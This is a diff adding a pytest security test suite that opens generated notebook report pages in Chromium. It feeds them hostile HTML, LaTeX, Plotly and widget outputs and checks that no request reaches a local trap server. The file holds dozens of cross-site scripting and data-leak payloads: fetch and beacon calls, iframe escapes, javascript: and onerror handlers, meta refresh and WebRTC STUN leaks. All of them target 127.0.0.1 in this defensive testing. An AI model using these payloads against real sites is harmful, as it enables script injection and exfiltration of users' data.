@@ -1,0 +1,220 @@
+"""Outputs that mean harm, opened in Chromium: none reaches the report or another machine."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from collections.abc import Iterator
+from html import escape
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from browsing import visit
+from nb.project import EXECUTED
+from nb.report import page
+
+pytest.importorskip("nbconvert", reason="a dependency of generated projects")
+pytest.importorskip("latex2mathml", reason="a dependency of generated projects")
+
+# {0} is the address of a server that must not be asked.
+HTML = {
+    "fetch": "<script>fetch('{0}/fetch')</script>",
+    "image": "<script>new Image().src = '{0}/image'</script>",
+    "beacon": "<script>navigator.sendBeacon('{0}/beacon', 'x')</script>",
+    "socket": "<script>new WebSocket('{0}/socket'.replace('http', 'ws'))</script>",
+    "events": "<script>new EventSource('{0}/events')</script>",
+    "module": "<script>import('{0}/module.js')</script>",
+    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{0}/worker')\"])))</script>",
+    "shared code": "<script>importScripts('{0}/x')</script><script src='{0}/code.js'></script>",
+    "form": "<form action='{0}/form'><input></form><script>document.forms[0].submit()</script>",
+    "window": "<script>window.open('{0}/window')</script>",
+    "elsewhere": "<script>location = '{0}/elsewhere'</script>",
+    "shell elsewhere": "<script>parent.location = '{0}/shell'</script>",
+    "top elsewhere": "<script>top.location = '{0}/top'</script>",
+    "refresh": "<meta http-equiv=refresh content='0;url={0}/refresh'><script>1</script>",
+    "still refresh": "<style>b {{}}</style><meta http-equiv=refresh content='0;url={0}/still'>",
+    "style": "<style>@import '{0}/style'; b {{ background: url({0}/background) }}</style><b>b</b>",
+    "font": "<style>@font-face {{ font-family: f; src: url({0}/font) }} b {{ font: 1em f }}</style><b>b",
+    "preload": "<script>1</script><link rel=preload as=fetch href='{0}/pre'><link rel=prefetch"
+    " href='{0}/fetch'>",
+    "nested": "<script>document.body.innerHTML = `<iframe srcdoc=\"<script>fetch('{0}/nested')"
+    '</scr` + `ipt>"></iframe>`</script>',
+    "frame": "<script>document.body.innerHTML = '<iframe src={0}/frame></iframe>'</script>",
+    "title of the page": "<script>top.document.title = 'taken'</script>",
+    "title of the shell": "<script>parent.document.body.innerHTML = 'taken'</script>",
+    "message": "<script>top.postMessage({{height: '<img src={0}/m>'}}, '*');"
+    "parent.postMessage({{height: 1e9}}, '*')</script>",
+    "dialog": "<script>alert(1); confirm(2); print()</script>",
+    "storage": "<script>localStorage.x = 1; document.cookie = 'a=b'</script>",
+    "out of the frame": "</iframe></main><script>fetch('{0}/out')</script>",
+    "out of the text": '"></iframe><script>top.document.title = "taken"</script>',
+    "video": "<video src='{0}/video' poster='{0}/poster' autoplay></video>",
+    "sound": "<audio><source src='{0}/sound'></audio>",
+    "object": "<object data='{0}/object'></object><embed src='{0}/embed'>",
+    "base": "<base href='{0}/'><style>b {{}}</style><img src=x.png>",
+}
+FORMULAS = (
+    r"\text{<img src=x onerror=alert(1)>}",
+    r"\href{javascript:alert(1)}{x}",
+    r'\class{a" onclick="alert(1)}{x}',
+    r"\text{</math></article><script>alert(1)</script>}",
+    r'\style{background:url("ADDRESS/style")}{x}',
+    r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
+)
+PLOTLY = "application/vnd.plotly.v1+json"
+WIDGET = "application/vnd.jupyter.widget-view+json"
+STATE = "application/vnd.jupyter.widget-state+json"
+
+
+def code(number: int, data: dict[str, Any]) -> dict[str, Any]:
+    output = {"output_type": "display_data", "metadata": {}, "data": data}
+    return {
+        "cell_type": "code",
+        "id": f"c{number}",
+        "metadata": {},
+        "source": "1",
+        "execution_count": 1,
+        "outputs": [output],
+    }
+
+
+def markdown(number: int, source: str) -> dict[str, Any]:
+    return {"cell_type": "markdown", "id": f"m{number}", "metadata": {}, "source": source}
+
+
+def make_page(root: Path, cells: list[dict[str, Any]], **metadata: Any) -> Path:
+    """Write an executed copy and the page of the copy; return the page."""
+    copy = root / EXECUTED / "x.ipynb"
+    copy.parent.mkdir(parents=True, exist_ok=True)
+    content = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
+    copy.write_text(json.dumps(content), encoding="utf-8")
+    (root / "dvc.yaml").write_text("stages: {}\n", encoding="utf-8")
+    return page(root, copy)
+
+
+class Trap:
+    """A server on this machine that notes whoever asks."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        trap = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                trap.asked.append(self.path)
+                self.send_error(404)
+
+            do_POST = do_OPTIONS = do_HEAD = do_GET
+
+            def log_message(self, *_: Any) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.address = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def trap() -> Iterator[Trap]:
+    made = Trap()
+    yield made
+    made.server.shutdown()
+    made.server.server_close()
+
+
+def check(browser: Any, made: Path, trap: Trap) -> None:
+    """Open a page, let every frame run, and look for the harm."""
+    with browser.new_context() as context:
+        seen = visit(context, made)
+        for frame in seen.page.query_selector_all("iframe"):
+            frame.scroll_into_view_if_needed()
+        seen.page.wait_for_timeout(1500)
+        heights = [f.bounding_box()["height"] for f in seen.page.query_selector_all("iframe")]
+        assert seen.page.title().startswith("x ·")
+        assert seen.page.url == made.resolve().as_uri() and len(context.pages) == 1
+        assert max(heights, default=0) <= seen.page.evaluate("innerHeight") + 8
+        assert [event for event in seen.events if not event.startswith(("console", "error"))] == []
+    assert trap.asked == []
+
+
+@pytest.mark.slow
+def test_hostile_html_asks_no_server_and_touches_no_page(
+    browser: Any, tmp_path: Path, trap: Trap
+) -> None:
+    cells = [
+        code(number, {"text/html": html.format(trap.address), "text/plain": name})
+        for number, (name, html) in enumerate(HTML.items())
+    ]
+    check(browser, make_page(tmp_path, cells), trap)
+
+
+@pytest.mark.slow
+def test_the_trap_notes_a_visitor(browser: Any, tmp_path: Path, trap: Trap) -> None:
+    """The other tests could not fail if a page without a policy went unnoticed."""
+    page = tmp_path / "open.html"
+    page.write_text(f"<script>fetch('{trap.address}/open')</script>", encoding="utf-8")
+    with browser.new_context() as context:
+        visit(context, page).page.wait_for_timeout(500)
+    assert trap.asked == ["/open"]
+
+
+@pytest.mark.slow
+def test_hostile_data_of_figures_formulas_and_widgets_stays_data(
+    browser: Any, tmp_path: Path, trap: Trap
+) -> None:
+    image = f"<img src={trap.address}/x onerror=alert(1)>"
+    ends = f"</script><script>fetch('{trap.address}/ends')</script>"
+    state = {
+        "a": {"model_name": "HTMLModel", "state": {"value": image + ends, "description": image}},
+        "b": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_b", "IPY_MODEL_a"]}},
+    }
+    cells = [
+        code(1, {PLOTLY: {"data": [], "layout": {"title": {"text": image + ends}}}}),
+        code(2, {WIDGET: {"model_id": "b"}, "text/plain": "x"}),
+        code(3, {"text/latex": f"$\\text{{{image}}}$ {ends}"}),
+        code(4, {"application/json": {image: ends}}),
+        code(5, {"application/javascript": f"fetch('{trap.address}/javascript')"}),
+        code(6, {f"application/x{image}": "x"}),
+        *(markdown(n, f"${t.replace('ADDRESS', trap.address)}$") for n, t in enumerate(FORMULAS)),
+        markdown(
+            90, f"```mermaid\n{image}{ends}\n```\n\n![a > $\\text{{{image}}}$](x) - [x] {image}"
+        ),
+    ]
+    widgets = {"widgets": {STATE: {"state": state}}}
+    made = make_page(tmp_path, cells, **widgets)
+    shown = made.read_text(encoding="utf-8")
+    assert escape(image, quote=False) in shown and shown.count("<script>") == 1
+    check(browser, made, trap)
+
+
+PEER = (
+    "const peer = new RTCPeerConnection({iceServers: [{urls: 'ADDRESS'}]});"
+    "peer.createDataChannel('x'); peer.createOffer().then((o) => peer.setLocalDescription(o));"
+)
+WAYS = {
+    "in the frame": f"<script>{PEER}</script>",
+    "in a frame within": f'<iframe srcdoc="<script>{PEER}</script>"></iframe><script>1</script>',
+    "in a frame that a script makes": "<script>const frame = document.createElement('iframe');"
+    f'frame.srcdoc = "<script>{PEER}</scr" + "ipt>";'
+    "document.documentElement.append(frame)</script>",
+    "in a frame of text": "<script>document.documentElement.insertAdjacentHTML('beforeend',"
+    f'`<iframe srcdoc="<script>{PEER}</scr` + `ipt>"></iframe>`)</script>',
+    "from an empty frame": "<script>const frame = document.createElement('iframe');"
+    "document.documentElement.append(frame); const RTCPeerConnection ="
+    f" frame.contentWindow.RTCPeerConnection; {PEER}</script>",
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("way", WAYS)
+def test_no_peer_connection_is_made(browser: Any, tmp_path: Path, trap: Trap, way: str) -> None:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.bind(("127.0.0.1", 0))
+        udp.settimeout(0.1)
+        html = WAYS[way].replace("ADDRESS", f"stun:127.0.0.1:{udp.getsockname()[1]}")
+        check(browser, make_page(tmp_path, [code(1, {"text/html": html})]), trap)
+        with pytest.raises(TimeoutError):
+            udp.recvfrom(100)
